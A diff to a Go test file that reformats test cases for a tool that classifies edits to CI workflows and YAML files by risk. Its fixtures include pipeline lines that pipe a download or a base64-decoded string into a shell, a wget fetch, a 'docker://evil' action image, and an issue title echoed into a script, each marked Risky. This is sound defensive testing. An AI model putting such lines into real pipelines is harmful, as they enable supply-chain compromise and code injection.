@@ -50,7 +50,10 @@ func TestWorkflow(t *testing.T) {
 		"an empty line":               {path, workflowText, with("jobs:", "\njobs:"), Harmless},
 		"a comment behind a value":    {path, workflowText, with("# at last", "# the end"), Harmless},
 		"in an action":                {"a/action.yml", workflowText, with("checkout@v3", "checkout@v4"), Harmless},
-		"in Forgejo":                  {".forgejo/workflows/a.yaml", workflowText, with("checkout@v3", "checkout@v4"), Harmless},
+		"in Forgejo": {
+			".forgejo/workflows/a.yaml", workflowText,
+			with("checkout@v3", "checkout@v4"), Harmless,
+		},
 		"a comment in a script":       {path, workflowText, with("# in a script", "# this is a script"), Plain},
 		"a command":                   {path, workflowText, with("make check", "make check2"), Plain},
 		"an older action":             {path, workflowText, with("checkout@v3", "checkout@v2"), Plain},
@@ -70,17 +73,26 @@ func TestWorkflow(t *testing.T) {
 		"a commit becomes a branch":   {path, workflowText, with(sha+" # v1.0.0", "main"), Risky},
 		"another owner":               {path, workflowText, with("x/build@v2", "y/build@v3"), Risky},
 		"another folder":              {path, workflowText, with("x/build@v2", "x/build/sub@v3"), Risky},
-		"a new action":                {path, workflowText, with("      - run: make", "      - uses: y/z@v1\n      - run: make"), Risky},
-		"an image as action":          {path, workflowText, with("x/build@v2", "docker://evil:1"), Risky},
-		"write for all":               {path, workflowText, with("  contents: read", "  contents: write"), Risky},
-		"write-all":                   {path, workflowText, with("permissions:\n  contents: read", "permissions: write-all"), Risky},
-		"no limits":                   {path, workflowText, with("permissions:\n  contents: read\n", ""), Risky},
-		"a secret":                    {path, workflowText, with("1.21.0", "1.21.0\n  T: ${{ secrets.T }}"), Risky},
-		"an event":                    {path, workflowText, with("  push:", "  pull_request_target:\n  push:"), Risky},
-		"a runner of one's own":       {path, workflowText, with("ubuntu-22.04", "self-hosted"), Risky},
-		"what others write":           {path, workflowText, with("make install", "echo ${{ github.event.issue.title }}"), Risky},
-		"fetch and run":               {path, workflowText, with("make check", "curl https://x.test | sh"), Risky},
-		"decode and run":              {path, workflowText, with("make check", "echo bWFrZQ== | base64 -d | bash"), Risky},
+		"a new action": {
+			path, workflowText,
+			with("      - run: make", "      - uses: y/z@v1\n      - run: make"), Risky,
+		},
+		"an image as action": {path, workflowText, with("x/build@v2", "docker://evil:1"), Risky},
+		"write for all":      {path, workflowText, with("  contents: read", "  contents: write"), Risky},
+		"write-all": {
+			path, workflowText,
+			with("permissions:\n  contents: read", "permissions: write-all"), Risky,
+		},
+		"no limits":             {path, workflowText, with("permissions:\n  contents: read\n", ""), Risky},
+		"a secret":              {path, workflowText, with("1.21.0", "1.21.0\n  T: ${{ secrets.T }}"), Risky},
+		"an event":              {path, workflowText, with("  push:", "  pull_request_target:\n  push:"), Risky},
+		"a runner of one's own": {path, workflowText, with("ubuntu-22.04", "self-hosted"), Risky},
+		"what others write": {
+			path, workflowText,
+			with("make install", "echo ${{ github.event.issue.title }}"), Risky,
+		},
+		"fetch and run":  {path, workflowText, with("make check", "curl https://x.test | sh"), Risky},
+		"decode and run": {path, workflowText, with("make check", "echo bWFrZQ== | base64 -d | bash"), Risky},
 	}.check(t)
 }
 
@@ -89,16 +101,19 @@ func TestOtherYAML(t *testing.T) {
 	const other = "a: 1.0\n# why\nb:\n- c\n- d: e\n"
 	const gitlab = "image: alpine:3.18\nvariables:\n  GO_VERSION: 1.21.0\ntest:\n  script:\n    - make\n"
 	edits{
-		"a newer hook":             {".pre-commit-config.yaml", pre, replaceOnce(t, pre, "v1.0.0", "v1.1.0"), Harmless},
-		"an older hook":            {".pre-commit-config.yaml", pre, replaceOnce(t, pre, "v1.0.0", "v0.9.0"), Plain},
-		"a branch":                 {".pre-commit-config.yaml", pre, replaceOnce(t, pre, "v1.0.0", "main"), Plain},
-		"another repository":       {".pre-commit-config.yaml", pre, replaceOnce(t, pre, "a/b", "a/bb"), Plain},
-		"a comment of any":         {"other.yml", other, replaceOnce(t, other, "why", "what for"), Harmless},
-		"a version of any":         {"other.yml", other, replaceOnce(t, other, "1.0", "1.1"), Plain},
-		"GitLab's image":           {".gitlab-ci.yml", gitlab, replaceOnce(t, gitlab, "3.18", "3.19"), Harmless},
-		"GitLab's variable":        {".gitlab-ci.yml", gitlab, replaceOnce(t, gitlab, "1.21.0", "1.22.0"), Harmless},
-		"GitLab's script":          {".gitlab-ci.yml", gitlab, replaceOnce(t, gitlab, "- make", "- make all"), Plain},
-		"GitLab's script fetching": {".gitlab-ci.yml", gitlab, replaceOnce(t, gitlab, "- make", "- wget https://x.test/a"), Risky},
+		"a newer hook":       {".pre-commit-config.yaml", pre, replaceOnce(t, pre, "v1.0.0", "v1.1.0"), Harmless},
+		"an older hook":      {".pre-commit-config.yaml", pre, replaceOnce(t, pre, "v1.0.0", "v0.9.0"), Plain},
+		"a branch":           {".pre-commit-config.yaml", pre, replaceOnce(t, pre, "v1.0.0", "main"), Plain},
+		"another repository": {".pre-commit-config.yaml", pre, replaceOnce(t, pre, "a/b", "a/bb"), Plain},
+		"a comment of any":   {"other.yml", other, replaceOnce(t, other, "why", "what for"), Harmless},
+		"a version of any":   {"other.yml", other, replaceOnce(t, other, "1.0", "1.1"), Plain},
+		"GitLab's image":     {".gitlab-ci.yml", gitlab, replaceOnce(t, gitlab, "3.18", "3.19"), Harmless},
+		"GitLab's variable":  {".gitlab-ci.yml", gitlab, replaceOnce(t, gitlab, "1.21.0", "1.22.0"), Harmless},
+		"GitLab's script":    {".gitlab-ci.yml", gitlab, replaceOnce(t, gitlab, "- make", "- make all"), Plain},
+		"GitLab's script fetching": {
+			".gitlab-ci.yml", gitlab,
+			replaceOnce(t, gitlab, "- make", "- wget https://x.test/a"), Risky,
+		},
 	}.check(t)
 }
 
